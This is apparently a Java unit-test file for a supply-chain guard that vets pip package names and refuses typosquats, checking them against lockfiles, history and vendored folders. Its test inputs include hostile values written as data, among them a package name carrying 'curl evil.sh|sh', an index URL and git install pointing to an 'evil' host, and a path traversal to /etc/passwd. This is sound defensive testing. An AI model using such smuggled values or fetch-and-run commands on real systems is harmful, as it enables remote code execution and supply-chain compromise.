package dev.pitcrew.remediation.dependency;

import static org.assertj.core.api.Assertions.assertThat;

import dev.pitcrew.remediation.Fixtures;
import dev.pitcrew.remediation.RecordingForge;
import dev.pitcrew.remediation.RepoFiles;
import dev.pitcrew.remediation.TestRepo;
import dev.pitcrew.remediation.dependency.SupplyChainGuard.Status;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SupplyChainGuardTest {
  @TempDir Path dir;
  private final SupplyChainGuard guard = new SupplyChainGuard(Set.of());

  @Test
  void mapsAtLeastThirtyImportNamesToTheirDistributions() {
    assertThat(ImportNames.size()).isGreaterThanOrEqualTo(30);
    assertThat(ImportNames.distribution("yaml")).isEqualTo("PyYAML");
    assertThat(ImportNames.distribution("cv2")).isEqualTo("opencv-python");
    assertThat(ImportNames.distribution("sklearn.linear_model")).isEqualTo("scikit-learn");
    assertThat(ImportNames.distribution("PIL.Image")).isEqualTo("Pillow");
    assertThat(ImportNames.distribution("bs4")).isEqualTo("beautifulsoup4");
    assertThat(ImportNames.distribution("google.protobuf.message")).isEqualTo("protobuf");
    assertThat(ImportNames.distribution("requests.adapters")).isEqualTo("requests");
  }

  @ParameterizedTest
  @ValueSource(strings = {"reqeusts", "requestss", "nunpy", "pandsa", "djanga", "urlib3", "boto4"})
  void refusesNearMissesOfPopularNames(String typo) throws Exception {
    var c = guard.check(Ecosystem.PIP, typo, "requirements.txt", RepoFiles.of(dir));
    assertThat(c.status()).isEqualTo(Status.REFUSED);
    assertThat(c.reason()).contains("likely a typo or a typosquat");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "requests; curl evil.sh|sh",
        "requests\u200b",
        "--index-url=http://evil/",
        "../../etc/passwd",
        "a b",
        "-e git+https://evil/x.git",
        "requests==1.0\nmalware"
      })
  void refusesNamesWithOddCharacters(String attack) throws Exception {
    var c = guard.check(Ecosystem.PIP, attack, "requirements.txt", RepoFiles.of(dir));
    assertThat(c.status()).isEqualTo(Status.REFUSED);
    assertThat(c.reason()).contains("not a valid pip package name").doesNotContain("\n");
  }

  @Test
  void aPlausibleNameFromTheLogAloneNeedsAPerson() throws Exception {
    var c =
        guard.check(Ecosystem.PIP, "acme-internal-utils", "requirements.txt", RepoFiles.of(dir));
    assertThat(c.status()).isEqualTo(Status.UNVERIFIED);
  }

  @Test
  void thePopularNameItselfIsStillNotTrustedWithoutCorroboration() throws Exception {
    var c = guard.check(Ecosystem.PIP, "requests", "requirements.txt", RepoFiles.of(dir));
    assertThat(c.status()).isEqualTo(Status.UNVERIFIED);
  }

  @Test
  void trustsTheAllowListTheLockfileAndTheHistory() throws Exception {
    var allowed =
        SupplyChainGuard.fromEnv("acme-utils, other")
            .check(Ecosystem.PIP, "Acme_Utils", "requirements.txt", RepoFiles.of(dir));
    assertThat(allowed.status()).isEqualTo(Status.VERIFIED);

    try (TestRepo repo = TestRepo.init(dir)) {
      repo.commit("deps", Map.of("requirements.txt", "flask==3.0.0\nrequests==2.31.0\n"));
      repo.commit("drop requests by mistake", Map.of("requirements.txt", "flask==3.0.0\n"));
      repo.commit(
          "lock", Map.of("poetry.lock", "[[package]]\nname = \"pyyaml\"\nversion = \"6.0.1\"\n"));
    }
    var history = guard.check(Ecosystem.PIP, "requests", "requirements.txt", RepoFiles.of(dir));
    assertThat(history.status()).isEqualTo(Status.VERIFIED);
    assertThat(history.historyLine()).contains("requests==2.31.0");
    var lock = guard.check(Ecosystem.PIP, "PyYAML", "requirements.txt", RepoFiles.of(dir));
    assertThat(lock.status()).isEqualTo(Status.VERIFIED);
    assertThat(lock.reason()).contains("poetry.lock");
  }

  @Test
  void aLockfileMentionMustBeTheWholeName() {
    assertThat(SupplyChainGuard.mentions(Ecosystem.PIP, "name = \"requests-oauthlib\"", "requests"))
        .isFalse();
    assertThat(
            SupplyChainGuard.mentions(
                Ecosystem.PIP, "name = \"python_dateutil\"", "python-dateutil"))
        .isTrue();
    assertThat(
            SupplyChainGuard.mentions(Ecosystem.NPM, "\"node_modules/@evil/lodash\": {", "lodash"))
        .isFalse();
    assertThat(SupplyChainGuard.mentions(Ecosystem.NPM, "lodash@^4.17.0:\n  version", "lodash"))
        .isTrue();
  }

  @Test
  void trustsADistributionTheRepositoryShipsAndPinsItsVersion() throws Exception {
    // read through the forge at the failed commit, as the service does (no checkout)
    RecordingForge forge =
        new RecordingForge()
            .seed(
                "main",
                "sha0",
                Map.of(
                    "requirements.txt", "slugkit==1.2.0\n",
                    "vendor/tinyfmt-0.3.1/tinyfmt/__init__.py", "def fmt(x): return x\n",
                    "vendor/tinyfmt-0.2.0/tinyfmt/__init__.py", "def fmt(x): return x\n",
                    "vendor/slugkit-1.2.0/slugkit/__init__.py", ""));
    RepoFiles files = RepoFiles.of(Fixtures.context(forge, 1, null));
    var c = guard.check(Ecosystem.PIP, "tinyfmt", "requirements.txt", files);
    assertThat(c.status()).isEqualTo(Status.VERIFIED);
    assertThat(c.version()).contains("0.3.1");
    assertThat(c.reason()).contains("vendor/tinyfmt-0.3.1/");
  }

  @Test
  void trustsWheelsAndSdistsInALocalIndexThePipOptionsName() throws Exception {
    Files.createDirectories(dir.resolve("ci/index/acme-utils"));
    Files.writeString(
        dir.resolve("requirements.txt"), "--find-links ./ci/index/acme-utils\nflask==3.0.0\n");
    Files.writeString(dir.resolve("ci/index/acme-utils/acme_utils-2.4.0-py3-none-any.whl"), "");
    Files.writeString(dir.resolve("ci/index/acme-utils/acme-utils-2.10.1.tar.gz"), "");
    var c = guard.check(Ecosystem.PIP, "Acme.Utils", "requirements.txt", RepoFiles.of(dir));
    assertThat(c.status()).isEqualTo(Status.VERIFIED);
    assertThat(c.version()).as("2.10.1 is newer than 2.4.0").contains("2.10.1");
  }

  @Test
  void aVendoredFolderMustHoldTheExactDistribution() throws Exception {
    // a different package whose name merely starts the same, a folder without the package in it,
    // a README that mentions the name, and an absolute --find-links outside the repository
    Files.createDirectories(dir.resolve("vendor/tinyfmt-extra-1.0/tinyfmt_extra"));
    Files.writeString(dir.resolve("vendor/tinyfmt-extra-1.0/tinyfmt_extra/__init__.py"), "");
    Files.createDirectories(dir.resolve("vendor/tinyfmt-0.3.1/docs"));
    Files.writeString(dir.resolve("vendor/tinyfmt-0.3.1/docs/index.md"), "tinyfmt");
    Files.writeString(dir.resolve("README.md"), "We use tinyfmt 0.3.1.\n");
    Files.writeString(dir.resolve("requirements.txt"), "--find-links /srv/wheels\n");
    var c = guard.check(Ecosystem.PIP, "tinyfmt", "requirements.txt", RepoFiles.of(dir));
    assertThat(c.status()).isEqualTo(Status.UNVERIFIED);
    assertThat(c.version()).isEmpty();
    assertThat(RepositoryPackages.localFolder("/srv/wheels")).isEmpty();
    assertThat(RepositoryPackages.localFolder("../outside")).isEmpty();
    assertThat(RepositoryPackages.localFolder("https://example.org/simple")).isEmpty();
    assertThat(RepositoryPackages.localFolder("./wheels/")).contains("wheels");
  }

  @Test
  void aVendoredTyposquatIsStillRefused() throws Exception {
    Files.createDirectories(dir.resolve("vendor/reqeusts-2.31.0/reqeusts"));
    Files.writeString(dir.resolve("vendor/reqeusts-2.31.0/reqeusts/__init__.py"), "");
    var c = guard.check(Ecosystem.PIP, "reqeusts", "requirements.txt", RepoFiles.of(dir));
    assertThat(c.status()).isEqualTo(Status.REFUSED);
  }
}
